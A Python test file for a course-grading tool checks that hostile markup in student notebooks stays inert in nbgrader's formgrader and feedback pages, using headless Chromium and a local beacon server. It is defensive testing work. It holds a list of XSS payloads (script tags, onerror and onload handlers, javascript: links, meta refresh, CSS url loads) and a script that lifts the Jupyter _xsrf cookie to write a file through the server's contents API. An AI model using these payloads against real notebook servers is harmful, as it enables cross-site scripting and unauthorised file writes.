"""Student markup is never live in anything a person opens: the autograded notebook formgrader
renders, the feedback pages, and (tests/course/test_similarity.py) the similarity pages."""

from __future__ import annotations

import base64
import copy
import os
import secrets
import socket
import subprocess
import sys
import tempfile
import threading
import time
import urllib.request
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import nbformat
import pytest
from bs4 import BeautifulSoup
from course_support import FIXTURE_MODULES, call_cli
from nbconvert.exporters import HTMLExporter
from nbconvert.filters.markdown_mistune import markdown2html_mistune
from traitlets.config import Config

from tinyflo.course.semester.instructor import render_config
from tinyflo.course.semester.nbgrader_steps import (
    FEEDBACK_POLICY,
    INERT_CLASS,
    LINK_SCHEMES,
    MARKDOWN_CELL_LIMIT,
    MARKDOWN_NOTEBOOK_LIMIT,
    MARKUP_TAGS,
    FeedbackExporter,
    InertStudentMarkup,
    RestoreCourseCells,
    inert_markdown,
)

BEACON = "http://127.0.0.1:9"  # in the unit tests: a host the payloads would reach (nothing listens)
REMOTE = "https://tinyflo.invalid"  # a host on the internet (never resolved: no request may go)
HARMLESS = "# My answer heading\n\nSome *emphasis*, **strong** and `inline code`.\n\n```python\nx = 1\n```\n"


def payloads(beacon: str) -> dict[str, str]:
    """Markup that would run, load or send something; each reaches `beacon` if it comes alive."""
    return {
        "script": f"<script>document.title='pwned';fetch('{beacon}/script')</script>",
        "img onerror": f"<img src=x onerror=\"document.title='pwned';fetch('{beacon}/img')\">",
        "svg onload": f"<svg onload=\"fetch('{beacon}/svg')\"><circle r=5></circle></svg>",
        "iframe javascript": "<iframe src=\"javascript:parent.document.title='pwned'\"></iframe>",
        "a javascript": f"<a href=\"javascript:fetch('{beacon}/a')\">click me</a>",
        "object": f"<object data=\"{beacon}/object\"></object><embed src=\"{beacon}/embed\">",
        "style exfiltration": f"<style>body{{background:url({beacon}/style)}}</style>",
        "meta refresh": f"<meta http-equiv=\"refresh\" content=\"0;url={beacon}/refresh\">",
        "form action": f"<form action=\"{beacon}/form\"><input name=q><button>send</button></form>",
        "base": f"<base href=\"{beacon}/\">",
        "markdown link": f"[markdown link](javascript:fetch('{beacon}/mdlink'))",
        "remote image": f"![remote]({REMOTE}/remote.png) ![beacon]({beacon}/remote.png)",
        "attachment": "![svg](attachment:evil.svg) ![page](attachment:evil.html)",
        "style attribute": f"<p style=\"background:url({beacon}/inline)\">styled</p>",
        "code span link": "`[a](javascript:fetch(1))` and ```\n<script>fetch(1)</script>\n\n\n[b](javascript:1)\n```",
        "mathjax": f"$\\href{{javascript:fetch('{beacon}/tex')}}{{x}}$ and "
                   f"$$\\unicode{{<img src=x onerror=\"fetch('{beacon}/teximg')\">}}$$",
    }


def hostile_cell(beacon: str) -> nbformat.NotebookNode:
    """A markdown cell of harmless text, every payload, attachments that run, and metadata pages render."""
    cell = nbformat.v4.new_markdown_cell(HARMLESS + "\n\n".join(payloads(beacon).values()))
    svg = f'<svg xmlns="http://www.w3.org/2000/svg" onload="fetch(\'{beacon}/attsvg\')"><script>fetch("{beacon}/attsvg2")</script></svg>'
    page = f"<script>fetch('{beacon}/atthtml')</script>"
    cell.attachments = {"evil.svg": {"image/svg+xml": base64.b64encode(svg.encode()).decode()},
                        "evil.html": {"text/html": base64.b64encode(page.encode()).decode()}}
    cell.metadata = {"tags": ['"><script>fetch("x")</script>'], "jupyter": {"source_hidden": True}, "alt": "<b>x</b>"}
    return cell


def hostile_raw(beacon: str) -> nbformat.NotebookNode:
    """A raw cell of HTML, marked as HTML for the pages and hidden from whoever grades."""
    return nbformat.v4.new_raw_cell(f"<script>fetch('{beacon}/raw')</script><img src=x onerror=fetch('{beacon}/rawimg')>",
                                    metadata={"raw_mimetype": "text/html", "transient": {"remove_source": True}})


def live_parts(html: str) -> list[str]:
    """Whatever in `html` could run, load, style or send: tags outside MARKUP_TAGS, attributes
    other than a link's href to a web page, and javascript: anywhere in an attribute."""
    found = []
    for element in BeautifulSoup(html, "html.parser").find_all(True):
        if element.name not in MARKUP_TAGS:
            found.append(f"<{element.name}>")
        for name, value in element.attrs.items():
            value = " ".join(value) if isinstance(value, list) else value
            if name == "href" and element.name == "a" and value.split(":", 1)[0] in LINK_SCHEMES:
                continue
            if (name, value) in (("rel", "noopener noreferrer"), ("class", INERT_CLASS), ("class", "")):
                continue
            found.append(f"<{element.name} {name}={value!r}>")
    return found


@pytest.mark.parametrize("name", sorted(payloads(BEACON)))
def test_each_payload_comes_out_inert_and_stays_inert_through_the_pages_markdown(name):
    source = inert_markdown(payloads(BEACON)[name])
    # what formgrader and the feedback template do with a markdown cell: nbconvert's markdown2html
    assert live_parts(source) == [] and live_parts(markdown2html_mistune(source)) == []
    assert "\n" not in source and inert_markdown(source) == source


def test_a_students_harmless_markdown_keeps_its_text_and_structure():
    soup = BeautifulSoup(markdown2html_mistune(inert_markdown(HARMLESS + "\n[docs](https://numpy.org)\n")),
                         "html.parser")
    assert soup.h1.get_text() == "My answer heading" and soup.em.get_text() == "emphasis"
    assert soup.strong.get_text() == "strong" and soup.find("code").get_text() == "inline code"
    assert "x = 1" in soup.pre.get_text() and soup.a["href"] == "https://numpy.org"
    assert soup.div["class"] == ["tex2jax_ignore"]  # MathJax leaves the student's TeX as typed


def _course(tmp_path: Path) -> tuple[Path, nbformat.NotebookNode]:
    """A course's source notebook with its own markdown (an image, HTML and math) and a raw cell."""
    course_md = nbformat.v4.new_markdown_cell("# Course prose $x^2$\n\n<details><summary>hint</summary>h</details>\n\n![fig](attachment:fig.png)")
    course_md.attachments = {"fig.png": {"image/png": "iVBORw0KGgo="}}
    source = nbformat.v4.new_notebook(cells=[course_md, nbformat.v4.new_raw_cell("course raw")])
    path = tmp_path / "source" / "m01" / "nb.ipynb"
    path.parent.mkdir(parents=True)
    nbformat.write(source, path)
    return tmp_path / "source", source


def test_the_course_cells_stay_and_every_cell_the_student_wrote_is_made_inert(tmp_path):
    source_dir, source = _course(tmp_path)
    submission = copy.deepcopy(source)
    submission.cells += [hostile_cell(BEACON), hostile_raw(BEACON)]
    step = InertStudentMarkup(source_dir=str(source_dir))
    done, _ = step.preprocess(copy.deepcopy(submission), {"nbgrader": {"assignment": "m01", "notebook": "nb"}})
    assert done.cells[0] == source.cells[0] and done.cells[1].source == "course raw"
    student, raw = done.cells[2], done.cells[3]
    assert live_parts(markdown2html_mistune(student.source)) == [] and "My answer heading" in student.source
    assert "attachments" not in student and student.metadata == {} and raw.metadata == {}
    # formgrader names the notebook beside resources["nbgrader"]; a module it cannot name has no course cells
    same, _ = step.preprocess(copy.deepcopy(submission), {"assignment_id": "m01", "notebook_id": "nb"})
    assert same == done
    unknown, _ = step.preprocess(copy.deepcopy(submission), {"assignment_id": "../m01", "notebook_id": "nb"})
    assert unknown.cells[0].source.startswith('<div class="tex2jax_ignore">') and "attachments" not in unknown.cells[0]


def _course_config(tmp_path: Path) -> Config:
    """The course's nbgrader_config.py, read as traitlets reads it."""
    config = Config()
    exec(render_config(tmp_path, tmp_path / "modules"), {"get_config": lambda: config})  # as traitlets does
    return config


def _old_autograded(tmp_path: Path) -> nbformat.NotebookNode:
    """A hostile notebook as autograde left it before it made markup inert."""
    _course(tmp_path)
    notebook = nbformat.v4.new_notebook(cells=[hostile_cell(BEACON), hostile_raw(BEACON)])
    notebook.metadata["language_info"] = {"name": "python"}
    return notebook


def reaching(page: str) -> list[str]:
    """The elements of a whole page that could reach the beacon or run: a frame, object, form, base
    or refresh, an event attribute, a javascript: URL, or a script or attribute naming the beacon."""
    found = []
    for element in BeautifulSoup(page, "html.parser").find_all(True):
        values = " ".join(" ".join(v) if isinstance(v, list) else str(v) for v in element.attrs.values())
        if (element.name in ("iframe", "object", "embed", "svg", "form", "base", "frame")
                or (element.name == "meta" and "refresh" in values.lower())
                or any(name.lower().startswith("on") for name in element.attrs)
                or "javascript:" in values.lower() or BEACON in values
                or (element.name == "script" and BEACON in element.get_text())):
            found.append(str(element)[:80])
    return found


def test_markdown_past_its_limits_is_shown_as_text_so_no_notebook_takes_long_to_render(monkeypatch):
    """Markdown renders in time that grows faster than its length (nested brackets): a student's
    markdown is rendered as markdown up to a cell's and a notebook's limit, the rest shown as its
    text, escaped and inert."""
    from nbconvert.filters import markdown_mistune

    rendered = []
    render = markdown_mistune.MarkdownWithMath.render
    monkeypatch.setattr(markdown_mistune.MarkdownWithMath, "render",
                        lambda self, text: rendered.append(len(text)) or render(self, text))
    notebook = nbformat.v4.new_notebook()
    notebook.cells = [nbformat.v4.new_markdown_cell("[]([" * (MARKDOWN_CELL_LIMIT // 4)) for _ in range(40)]
    notebook.cells.append(nbformat.v4.new_markdown_cell("[" * 2**20 + f"<script>fetch('{BEACON}')</script>"))
    notebook.cells.append(nbformat.v4.new_markdown_cell("a *short* note"))
    InertStudentMarkup().preprocess(notebook, {})
    assert sum(rendered) <= MARKDOWN_NOTEBOOK_LIMIT and max(rendered) <= MARKDOWN_CELL_LIMIT
    huge = notebook.cells[-2].source
    assert huge.startswith(f'<div class="{INERT_CLASS}"><pre>[[[') and "&lt;script&gt;" in huge
    assert reaching(markdown2html_mistune(huge)) == []
    assert "<pre>a *short* note</pre>" in notebook.cells[-1].source  # past the notebook's room: text


def test_the_course_config_makes_markup_inert_where_it_enters_and_where_formgrader_renders(tmp_path):
    config = _course_config(tmp_path)
    steps = config.Autograde.sanitize_preprocessors
    assert steps.index(InertStudentMarkup) == steps.index(RestoreCourseCells) + 1
    assert config.InertStudentMarkup.source_dir == str(tmp_path / "source")
    # formgrader renders a submission with HTMLExporter(config=the course's config) and its template
    from nbgrader.server_extensions.formgrader import handlers
    config.HTMLExporter.template_name = "formgrade"
    config.HTMLExporter.extra_template_basedirs = [handlers.template_path]
    resources = {"assignment_id": "m01", "notebook_id": "nb", "base_url": "", "index": 0, "total": 1,
                 "submission_id": "s", "student": "mallory", "notebook_path": "autograded/nb.ipynb",
                 # the roster's names, which an LMS lets students choose: formgrader's template prints
                 # them unescaped
                 "first_name": f"<img src=x onerror=fetch('{BEACON}')>", "last_name": "<b>O'Brien & co</b>"}
    page, _ = HTMLExporter(config=config).from_notebook_node(_old_autograded(tmp_path), resources=resources)
    notebook = BeautifulSoup(page, "html.parser").find(id="notebook")  # formgrader's own page around it
    assert reaching(str(notebook)) == [] and "My answer heading" in notebook.get_text()
    soup = BeautifulSoup(page, "html.parser")  # the names as text, not as elements
    assert not soup.find_all("img", src="x") and "<b>O'Brien & co</b>, <img src=x" in soup.get_text()


def test_a_feedback_page_forbids_scripts_loads_and_forms_whatever_the_config_says(tmp_path):
    config = Config()
    config.HTMLExporter.sanitize_html = False
    config.HTMLExporter.preprocessors = []
    page, _ = FeedbackExporter(config=config).from_notebook_node(_old_autograded(tmp_path), resources={})
    soup = BeautifulSoup(page, "html.parser")
    assert soup.head.find(True).attrs == {"http-equiv": "Content-Security-Policy", "content": FEEDBACK_POLICY}
    assert "default-src 'none'" in FEEDBACK_POLICY and "script-src" not in FEEDBACK_POLICY
    assert reaching(page) == [] and "My answer heading" in soup.body.get_text() and "evil.svg" not in page


# --- in Chromium: the course's real autograde and feedback, then the pages a person opens -------------


class _Beacon(BaseHTTPRequestHandler):
    """Records every request a page makes to it: any one means a payload came alive."""

    def _record(self) -> None:
        self.server.requests.append(f"{self.command} {self.path}")
        self.send_response(204)
        self.end_headers()

    do_GET = do_POST = do_PUT = do_HEAD = do_OPTIONS = _record

    def log_message(self, *args) -> None:
        pass


def _free_port() -> int:
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        return probe.getsockname()[1]


def _formgrader(course: Path, port: int, token: str) -> subprocess.Popen:
    """The instructor's Jupyter server with nbgrader's formgrader, in the course folder, on loopback."""
    home = Path(tempfile.mkdtemp(prefix="tinyflo-formgrader-"))
    env = {**os.environ, "HOME": str(home), "JUPYTER_CONFIG_DIR": str(home / "config"),
           "JUPYTER_DATA_DIR": str(home / "data"), "JUPYTER_RUNTIME_DIR": str(home / "runtime")}
    command = [sys.executable, "-m", "jupyter_server", "--no-browser", "--ip=127.0.0.1", f"--port={port}",
               f"--IdentityProvider.token={token}", "--ServerApp.port_retries=0",
               "--ServerApp.jpserver_extensions={'nbgrader.server_extensions.formgrader': True}"]
    if os.geteuid() == 0:
        command.append("--allow-root")
    server = subprocess.Popen(command, cwd=course, env=env, stdout=subprocess.DEVNULL, stderr=subprocess.PIPE)
    deadline = time.monotonic() + 60
    while time.monotonic() < deadline:
        try:
            with urllib.request.urlopen(f"http://127.0.0.1:{port}/api/status?token={token}", timeout=2):
                return server
        except OSError:
            if server.poll() is not None:
                pytest.fail(f"the formgrader's server stopped: {server.stderr.read().decode()[-2000:]}")
            time.sleep(0.3)
    server.kill()
    pytest.fail("the formgrader's server did not answer within 60 s")


def _log_in(browser, url: str, token: str) -> None:
    """Log in on the server's login page, as the instructor does: its cookie then holds for every path."""
    from selenium.webdriver.common.by import By
    from selenium.webdriver.support.ui import WebDriverWait

    browser.get(f"{url}/login?next=%2Fapi%2Fstatus")
    browser.find_element(By.ID, "password_input").send_keys(token)
    browser.find_element(By.ID, "login_submit").click()
    WebDriverWait(browser, 30).until(lambda b: b.current_url.endswith("/api/status"))


def _files(course: Path) -> set[str]:
    return {str(path.relative_to(course)) for path in course.rglob("*")
            if not path.name.startswith("gradebook.db")}  # formgrader may write its own database


def _nothing_came_alive(browser, beacon: ThreadingHTTPServer, where: str) -> None:
    """The page shows the student's text and nothing of theirs ran, loaded or left."""
    from selenium.webdriver.common.by import By
    from selenium.webdriver.support.ui import WebDriverWait

    WebDriverWait(browser, 30).until(lambda b: b.execute_script("return document.readyState") == "complete")
    time.sleep(1)  # a payload's own timers, loads and refresh
    assert beacon.requests == [], f"{where}: the page reached the beacon: {beacon.requests}"
    assert "pwned" not in browser.title, f"{where}: a script ran"
    loaded = browser.execute_script("return performance.getEntriesByType('resource').map(e => e.name)")
    assert not [url for url in loaded if "tinyflo.invalid" in url or beacon.url in url], (where, loaded)
    assert not browser.execute_script("return document.querySelectorAll("
                                      "'a[href^=\"javascript\" i], iframe, object, embed, form, svg').length")
    heading = browser.find_elements(By.XPATH, "//h1[normalize-space()='My answer heading']")
    assert heading and browser.find_elements(By.XPATH, "//em[.='emphasis']"), f"{where}: the student's text"


def test_a_hostile_notebook_is_inert_in_chromium_on_its_feedback_page_and_in_formgrader(tmp_path, browser):
    beacon = ThreadingHTTPServer(("127.0.0.1", 0), _Beacon)
    beacon.requests, beacon.url = [], f"http://127.0.0.1:{beacon.server_address[1]}"
    threading.Thread(target=beacon.serve_forever, daemon=True).start()
    course = tmp_path / "course"
    common = ["--dir", str(course), "--modules", str(FIXTURE_MODULES)]
    assert call_cli("course", "build", *common)[0] == 0
    assert call_cli("course", "release", "00", *common)[0] == 0
    notebook = nbformat.read(course / "release" / "00_demo" / "demo.ipynb", as_version=4)
    cell = hostile_cell(beacon.url)
    # the attack found on main: a script that writes into the course folder through the server's API
    cell.source += ("\n\n<script>fetch(location.origin + '/api/contents/pwned.txt', {method: 'PUT', headers: {'X-XSRFToken': "
                    "document.cookie.match(/_xsrf=([^;]+)/)[1]}, body: JSON.stringify({type: 'file', "
                    "format: 'text', content: 'pwned'})})</script>")
    # what the student's code raises reaches the verdict in its own words: markup in it too
    said = (f"<img src=x onerror=\"document.title='pwned';fetch('{beacon.url}/verdict')\">"
            f"<script>fetch('{beacon.url}/verdict-script')</script>")
    for answer in notebook.cells:
        if answer.metadata.get("nbgrader", {}).get("grade_id") == "demo_relu_code":
            answer.source = f"def relu(x):\n    raise ValueError({said!r})"
    notebook.cells[1:1] = [cell]
    notebook.cells.append(hostile_raw(beacon.url))
    submitted = course / "submitted" / "mallory" / "00_demo" / "demo.ipynb"
    submitted.parent.mkdir(parents=True)
    nbformat.write(notebook, submitted)
    assert call_cli("course", "autograde", "00", "--no-sandbox", *common)[0] == 0
    assert call_cli("course", "feedback", "00", *common)[0] == 0
    before = _files(course)
    page = course / "feedback" / "mallory" / "00_demo" / "demo.html"
    assert "your code raised ValueError: &lt;img src=x onerror=" in page.read_text(), "the verdict shows it, as text"
    try:
        browser.get(page.as_uri())
        _nothing_came_alive(browser, beacon, "feedback page")

        from nbgrader.api import Gradebook
        with Gradebook(f"sqlite:///{course / 'gradebook.db'}") as gradebook:
            submission = gradebook.find_submission_notebook("demo", "00_demo", "mallory").id
        port, token = _free_port(), secrets.token_hex(16)
        server = _formgrader(course, port, token)
        try:
            _log_in(browser, f"http://127.0.0.1:{port}", token)
            browser.get(f"http://127.0.0.1:{port}/formgrader/submissions/{submission}/")
            _nothing_came_alive(browser, beacon, "formgrader")
        finally:
            server.terminate()
            server.wait(timeout=30)
    finally:
        beacon.shutdown()
    assert _files(course) == before, "a file appeared in the course folder"


# What runs past its box or the window: an element wider than the window's right edge, or one whose
# text is wider than the element (in a scroll box, or clipped).
_OVERFLOWING = """
const width = document.documentElement.clientWidth;
return [...document.body.querySelectorAll('*')].filter(e =>
    e.getBoundingClientRect().right > width + 1 || (e.clientWidth > 0 && e.scrollWidth > e.clientWidth + 1))
  .map(e => `${e.tagName.toLowerCase()}.${e.className}: ${e.scrollWidth} px in ${e.clientWidth}, right edge at `
            + `${Math.round(e.getBoundingClientRect().right)} of ${width}`);
"""


@pytest.mark.parametrize("window", [1400, 700])
def test_a_feedback_page_wraps_its_long_lines_within_the_window(tmp_path, browser, window):
    """A verdict is one line, and a student's code or a word may be wider than the page: each wraps,
    on a wide window and a narrow one; none runs past the right edge or hides in a scroll box."""
    from test_feedback_pages import LONG_VERDICT, WIDE_CODE, graded_notebook, nbgrader_feedback_page

    page = tmp_path / "tensor.html"
    page.write_text(nbgrader_feedback_page(graded_notebook(), tmp_path), encoding="utf-8")
    browser.set_window_size(window, 1000)
    try:
        browser.get(page.as_uri())
        assert browser.execute_script(_OVERFLOWING) == []
        shown = browser.execute_script("return document.body.innerText")
        assert " ".join(LONG_VERDICT.split()) in " ".join(shown.split()), "the verdict, whole"
        assert WIDE_CODE.strip() in " ".join(shown.split())
    finally:
        browser.set_window_size(1400, 1000)  # as the fixture made it, for the module's other tests
